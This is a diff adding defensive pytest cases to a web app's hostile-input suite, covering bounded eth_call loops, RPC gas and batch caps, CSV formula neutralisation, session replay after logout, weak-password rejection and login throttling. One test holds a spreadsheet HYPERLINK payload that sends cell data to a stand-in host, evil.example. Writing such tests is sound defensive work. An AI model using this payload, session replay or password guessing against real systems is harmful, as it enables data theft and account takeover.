@@ -5,9 +5,12 @@ answers 200 within a second afterwards: no single request takes the service down
 
 from __future__ import annotations
 
+import csv
 import http.client
+import io
 import json
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -18,9 +21,11 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+import requests
 
 from bench.processes import die_with_parent
 from tests.chain.anvil import free_port
+from trace.seed import DEMO_PASSWORD
 
 ROOT = Path(__file__).resolve().parents[2]
 #: A process imports the whole app (py-evm, web3, reportlab): slow on a busy CI machine.
@@ -246,4 +251,167 @@ def test_a_chunked_body_over_the_size_limit_is_refused(server: Server) -> None:
     headers = {"Content-Type": "application/json", "Authorization": f"Bearer {server.token}"}
     status, _headers, _body = server.request("POST", "/api/v1/epcis/capture", chunks, headers)
     assert status == 413
+    server.assert_healthy()
+
+
+# --- a browser-like client: cookies and the forms' CSRF tokens ------------------------------
+
+
+CSRF = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')
+FARMER = "thanhlong@demo.agritrace.vn"
+
+
+class Browser:
+    """A cookie-keeping client that fills forms as a browser would (CSRF token included)."""
+
+    def __init__(self, server: Server) -> None:
+        self.base = f"http://127.0.0.1:{server.port}"
+        self.http = requests.Session()
+        self.http.headers["User-Agent"] = "Mozilla/5.0 (hostile-suite)"
+
+    def get(self, path: str) -> requests.Response:
+        return self.http.get(self.base + path, allow_redirects=False, timeout=30)
+
+    def submit(self, path: str, fields: dict[str, str]) -> requests.Response:
+        """GET the form, then POST it with its CSRF token."""
+        token = CSRF.search(self.get(path).text)
+        data = {**fields, **({"csrf_token": token.group(1)} if token else {})}
+        return self.http.post(self.base + path, data=data, allow_redirects=False, timeout=30)
+
+    def post(self, path: str, fields: dict[str, str], form_page: str) -> requests.Response:
+        """POST to ``path`` with the CSRF token of ``form_page`` (buttons without a page)."""
+        token = CSRF.search(self.get(form_page).text)
+        data = {**fields, **({"csrf_token": token.group(1)} if token else {})}
+        return self.http.post(self.base + path, data=data, allow_redirects=False, timeout=30)
+
+    def log_in(self, email: str, password: str = DEMO_PASSWORD) -> requests.Response:
+        return self.submit("/login", {"email": email, "password": password})
+
+
+# --- 2. /chain/rpc cannot hold the chain or the CPU -----------------------------------------
+
+
+INFINITE_LOOP = "0x5b600056"  # JUMPDEST PUSH1 0 JUMP
+
+
+def test_an_infinite_loop_eth_call_is_bounded(server: Server) -> None:
+    started = time.monotonic()
+    status, reply = _rpc(
+        server,
+        {
+            "jsonrpc": "2.0",
+            "id": 1,
+            "method": "eth_call",
+            "params": [{"data": INFINITE_LOOP}, "latest"],
+        },
+    )
+    assert status == 200
+    assert "error" in reply  # out of gas under the cap, not 13-24 s of CPU
+    assert time.monotonic() - started < 5.0
+    server.assert_healthy()
+
+
+def test_gas_beyond_the_cap_is_refused(server: Server) -> None:
+    call = {"data": INFINITE_LOOP, "gas": hex(10**9)}
+    status, reply = _rpc(
+        server, {"jsonrpc": "2.0", "id": 1, "method": "eth_call", "params": [call, "latest"]}
+    )
+    assert status == 200
+    assert reply["error"]["code"] == -32005
+    server.assert_healthy()
+
+
+def test_a_batch_over_the_cap_is_refused(server: Server) -> None:
+    batch = [{"jsonrpc": "2.0", "id": i, "method": "eth_chainId", "params": []} for i in range(20)]
+    status, reply = _rpc(server, batch)
+    assert status == 200
+    errors = reply if isinstance(reply, list) else [reply]
+    assert all("error" in item for item in errors)
+    assert "result" not in json.dumps(reply)
+    server.assert_healthy()
+
+
+# --- 3. text that lands in a spreadsheet cannot run there -----------------------------------
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
+
+
+def test_a_formula_product_name_is_neutralised_in_open_data(server: Server) -> None:
+    farmer = Browser(server)
+    assert farmer.log_in(FARMER).status_code == 302
+    added = farmer.submit(
+        "/farm/products",
+        {"name_vi": FORMULA, "name_en": "@SUM(1+1)", "category": "fruit", "unit": "kg", "gtin": ""},
+    )
+    assert added.status_code == 302, added.text[:2000]
+    status, _headers, body = server.request("GET", "/open-data/products.csv")
+    assert status == 200
+    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
+    assert "'" + FORMULA in cells
+    assert "'@SUM(1+1)" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
+    server.assert_healthy()
+
+
+# --- 4-5. accounts: sessions end at logout, passwords and guessing are bounded --------------
+
+
+def test_a_session_cookie_replayed_after_logout_is_refused(server: Server) -> None:
+    farmer = Browser(server)
+    assert farmer.log_in(FARMER).status_code == 302
+    assert farmer.get("/farm/").status_code == 200
+    stolen = dict(farmer.http.cookies)
+    assert farmer.post("/logout", {}, "/farm/").status_code == 302
+    replay = requests.get(f"{farmer.base}/farm/", cookies=stolen, allow_redirects=False, timeout=30)
+    assert replay.status_code == 302
+    assert "/login" in replay.headers["Location"]
+    server.assert_healthy()
+
+
+@pytest.mark.parametrize(
+    ("password", "reason"),
+    [
+        ("aaaaaaaaaa", "Dùng ít nhất 12 ký tự"),
+        ("password1234", "Mật khẩu này quá phổ biến"),
+        ("aaaaaaaaaaaaaaaa", "Mật khẩu này quá phổ biến"),
+    ],
+)
+def test_a_weak_password_is_refused_at_registration(
+    server: Server, password: str, reason: str
+) -> None:
+    email = f"new-farmer-{len(password)}-{password[:3]}@example.vn"
+    answer = Browser(server).submit(
+        "/register",
+        {
+            "email": email,
+            "password": password,
+            "full_name": "Nguyễn Văn A",
+            "name": "HTX A",
+            "kind": "household",
+            "registration_number": "",
+            "address_line": "1",
+            "commune": "Tân Lập",
+            "district": "Châu Thành",
+            "province": "Long An",
+            "phone": "0900000000",
+            "gln": "",
+            "company_prefix": "",
+        },
+    )
+    assert answer.status_code != 302  # the form again, not "account ready"
+    assert reason in answer.text
+    assert Browser(server).log_in(email, password).status_code == 401  # no account was made
+    server.assert_healthy()
+
+
+def test_guessing_a_password_is_throttled(server: Server) -> None:
+    """Runs last among the account tests: it spends this client's login budget."""
+    guesser = Browser(server)
+    statuses = [guesser.log_in(FARMER, f"wrong password {i}").status_code for i in range(8)]
+    assert statuses[0] == 401
+    assert statuses[-1] == 429
+    right = guesser.log_in(FARMER)
+    assert right.status_code == 429  # locked out: the right password waits too
+    assert int(right.headers["Retry-After"]) > 0
     server.assert_healthy()
